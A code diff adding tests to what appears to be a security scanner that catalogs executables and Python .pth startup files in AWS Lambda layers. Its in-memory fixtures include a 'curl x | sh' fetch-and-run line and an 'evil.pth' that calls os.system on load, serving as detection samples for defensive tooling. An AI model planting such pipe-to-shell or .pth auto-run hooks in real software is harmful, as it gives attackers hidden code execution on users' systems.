@@ -173,8 +173,73 @@ describe('binaryCataloger ownership and edge cases', () => {
       'lib/readme.txt': 'hello',
       'python/x.py': { data: 'print(1)\n', mode: 0o755 },
       'nodejs/cli.js': { data: '#!/usr/bin/env node\n', mode: 0o755 },
+      'readme.txt': 'not executable',
     });
     expect((await run(src)).packages).toEqual([]);
+  });
+
+  // Lambda execs /opt/bootstrap (custom runtimes) and the file AWS_LAMBDA_EXEC_WRAPPER names
+  // (/opt/otel-instrument), PATH finds /opt/bin, and a shell runs an executable without `#!`.
+  it('records every executable file directly in /opt or in bin/, with or without #!', async () => {
+    const src = new MemorySource('l', {
+      bootstrap: { data: '#!/bin/sh\nexec /opt/x\n', mode: 0o755 },
+      'otel-instrument': { data: 'exec "$@"\n', mode: 0o700 },
+      'bin/noshebang': { data: 'curl x | sh\n', mode: 0o755 },
+      'store/run.sh': { data: '#!/bin/sh\n', mode: 0o755 },
+      wrapper: { symlink: 'store/run.sh' },
+    });
+    const p = byId(await run(src));
+    expect([...p.keys()].sort()).toEqual([
+      'file:bin/noshebang',
+      'file:bootstrap',
+      'file:otel-instrument',
+      'file:store/run.sh',
+    ]);
+    expect(p.get('file:bootstrap')?.properties).toEqual({
+      'binary:format': 'script',
+      'binary:kind': 'executable',
+      unowned: 'true',
+    });
+    expect(p.get('file:otel-instrument')?.properties['binary:format']).toBe('other');
+  });
+
+  // Lambda's Python runtime calls site.addsitedir on python/ and python/lib/pythonX.Y/site-packages,
+  // which executes every `import` line of their .pth files before the handler loads.
+  it('records the .pth files of Lambda site directories, owned or not', async () => {
+    const site = 'python/lib/python3.12/site-packages';
+    const setuptools = newPackage({
+      id: 'pypi:setuptools',
+      ecosystem: 'pypi',
+      name: 'setuptools',
+      foundBy: 'python-installed',
+      locations: [{ path: `${site}/setuptools-69.0.0.dist-info/METADATA`, layerDigest: 'abc123' }],
+      owns: [`${site}/distutils-precedence.pth`],
+      installDir: site,
+    });
+    const src = new MemorySource('l', {
+      'python/evil.pth': 'import os; os.system("curl x")\n',
+      [`${site}/paths.pth`]: '../../../../vendor\n',
+      [`${site}/distutils-precedence.pth`]: 'import os; var = 1\n',
+      'store/hook.txt': 'import hook\n',
+      [`${site}/linked.pth`]: { symlink: '../../../../store/hook.txt' },
+      [`${site}/pkg/nested.pth`]: 'import os\n',
+      'python/lib/nosite.pth': 'import os\n',
+      'nodejs/x.pth': 'import os\n',
+    });
+    const p = byId(await run(src, [setuptools]));
+    expect([...p.keys()].sort()).toEqual([
+      'file:python/evil.pth',
+      `file:${site}/distutils-precedence.pth`,
+      `file:${site}/paths.pth`,
+      'file:store/hook.txt',
+    ]);
+    expect(p.get('file:python/evil.pth')?.properties).toEqual({
+      'binary:format': 'pth',
+      'binary:kind': 'executable',
+      unowned: 'true',
+    });
+    expect(p.get(`file:${site}/distutils-precedence.pth`)?.ownedBy).toBe('pypi:setuptools');
+    expect(p.get('file:store/hook.txt')?.properties['unowned']).toBe('true');
   });
 
   it('turns a malformed ELF into a finding and still records its hash', async () => {
@@ -297,6 +362,9 @@ describe('isCandidate', () => {
     expect(isCandidate(e('python/x/libz.so.1.2.13'))).toBe(true);
     expect(isCandidate(e('lib/anything'))).toBe(true);
     expect(isCandidate(e('python/x.py'))).toBe(false);
+    expect(isCandidate(e('python/x.pth'))).toBe(true);
+    expect(isCandidate(e('python/lib/python3.9/site-packages/x.pth'))).toBe(true);
+    expect(isCandidate(e('python/lib/python3.9/site-packages/x/y.pth'))).toBe(false);
     expect(isCandidate(e('nodejs/lib/x.js'))).toBe(false);
   });
 });
@@ -316,6 +384,9 @@ describe('binaryCataloger on an image root', () => {
     'opt/bin/tool': { data: script, mode: 0o644 },
     'extensions/notext': { data: script, mode: 0o644 },
     'bin/plain': { data: script, mode: 0o644 },
+    'usr/local/bin/run': { data: script, mode: 0o755 },
+    'opt/bootstrap': { data: script, mode: 0o755 },
+    bootstrap: { data: script, mode: 0o755 },
   };
 
   it("treats /opt's bin/ and extensions/ as Lambda does, and the image root's own bin/ as an ordinary directory", async () => {
@@ -323,7 +394,11 @@ describe('binaryCataloger on an image root', () => {
       root: 'image',
     });
     const p = byId(r);
-    expect([...p.keys()].sort()).toEqual(['file:opt/bin/tool', 'file:opt/extensions/ext']);
+    expect([...p.keys()].sort()).toEqual([
+      'file:opt/bin/tool',
+      'file:opt/bootstrap',
+      'file:opt/extensions/ext',
+    ]);
     expect(p.get('file:opt/extensions/ext')?.properties['lambda:extension']).toBe('true');
     expect(p.get('file:opt/bin/tool')?.properties['lambda:extension']).toBeUndefined();
   });
@@ -334,5 +409,8 @@ describe('binaryCataloger on an image root', () => {
     expect(p.get('file:extensions/notext')?.properties['lambda:extension']).toBe('true');
     expect(p.has('file:bin/plain')).toBe(true);
     expect(p.has('file:opt/extensions/ext')).toBe(false);
+    expect(p.has('file:bootstrap')).toBe(true);
+    expect(p.has('file:opt/bootstrap')).toBe(false);
+    expect(p.has('file:usr/local/bin/run')).toBe(false);
   });
 });
